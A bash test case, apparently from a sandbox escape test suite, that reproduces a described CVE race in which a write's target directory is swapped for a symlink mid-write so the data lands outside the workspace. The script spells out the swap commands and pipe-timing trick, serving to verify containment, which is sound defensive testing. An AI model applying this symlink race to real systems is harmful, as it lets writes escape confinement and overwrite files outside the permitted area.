#!/bin/bash
# CVE-2026-32977, OpenClaw: the write went to a temporary file in a checked directory, and the final
# rename resolved the path once more, through a link that had taken its place.
# Escaped: a write whose directory is replaced by a link while its data arrives ends up outside.
# shellcheck disable=SC2317,SC2034
NEEDS="filecalls keeps"
. "${0%/*}/../lib.sh"
prepare() { mkdir "$WS/d" && echo original >"$OUT/file" && mkfifo "$R/data"; }
attack()
{
    local writer
    box_open
    if [ "$BOX" = none ]; then # what the product did
        (cat <"$R/data" >"$WS/d/.tmp" && cp "$WS/d/.tmp" "$R/t" && mv "$R/t" "$WS/d/file") &
    else
        "$CAISSON" write "$BOX_ID" d/file <"$R/data" &
    fi
    writer=$!
    exec 8>"$R/data"
    head -c 3000000 /dev/zero >&8 # more than a pipe holds: the writer is reading by now
    inside 'mv d old; ln -s "$OUT" d; ln -s "$OUT" old/x; cp -r old/. . 2>/dev/null; true'
    [ "$BOX" = none ] && cp "$WS/old/.tmp" "$WS/d/.tmp"
    echo evil >&8
    exec 8>&-
    wait $writer
    rm -f "$OUT/.tmp"
}
escaped() { [ "$(cat "$OUT/file")" != original ]; }
attempt "the directory is replaced while the data arrives"
